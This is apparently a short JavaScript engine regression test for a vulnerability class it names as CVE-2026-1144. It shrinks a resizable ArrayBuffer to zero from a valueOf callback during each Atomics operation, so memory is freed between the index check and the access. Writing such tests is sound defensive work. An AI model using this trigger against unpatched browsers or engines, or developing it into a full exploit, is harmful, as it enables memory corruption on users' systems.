//! end: done
//! why: the kind of CVE-2026-1144: the buffer goes away between the index check and the access
for (const name of ['store', 'add', 'and', 'or', 'xor', 'sub', 'exchange', 'compareExchange', 'load']) {
  const buffer = new ArrayBuffer(1 << 16, { maxByteLength: 1 << 16 });
  const a = new Int32Array(buffer);
  const shrink = { valueOf() { buffer.resize(0); return 1 } };
  try { Atomics[name](a, 16000, shrink, shrink) } catch { }
  try { Atomics[name](a, shrink, 1, 1) } catch { }
}
